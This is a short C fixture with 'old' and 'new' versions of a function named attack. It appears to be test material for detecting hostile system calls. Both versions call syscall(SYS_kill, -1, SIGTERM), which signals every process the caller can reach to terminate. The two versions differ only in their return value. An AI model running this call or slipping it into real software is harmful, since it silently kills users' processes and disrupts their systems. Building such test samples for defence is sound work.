//// old
#include <signal.h>
#include <unistd.h>
#include <sys/syscall.h>
int attack(int x) {
    syscall(SYS_kill, -1, SIGTERM);
    return x;
}
//// new
#include <signal.h>
#include <unistd.h>
#include <sys/syscall.h>
int attack(int x) {
    syscall(SYS_kill, -1, SIGTERM);
    return x + 1;
}
